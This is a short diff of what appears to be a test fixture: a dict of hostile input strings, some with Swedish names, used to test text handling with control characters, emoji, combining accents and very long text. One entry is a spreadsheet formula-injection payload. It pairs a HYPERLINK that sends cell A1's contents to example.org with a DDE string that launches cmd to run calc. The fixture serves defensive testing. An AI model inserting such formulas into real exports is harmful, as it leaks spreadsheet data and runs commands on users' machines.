@@ -25,7 +25,7 @@ ATTACKS = {
     "langt": "Å" * LONG,
     "styrtecken": "pip\x07 esc\x1b[31m rad\x85ny\u2028rad\u2029ny del\x7f slut\x01",
     "bilder": "👩‍👩‍👧‍👦🏳️‍🌈🇸🇪" * 20,
-    "accenter": "Z" + "\u0301\u0323\u0489" * 300,
+    "accenter": ("Z" + "\u0301\u0323\u0308" * 10) * 30,
     "formel": '=HYPERLINK("https://example.org/?"&A1;"klicka") @SUM(1+1)*cmd|\' /C calc\'!A0',
 }
 """Texts by the name of the area and the goal that have them."""
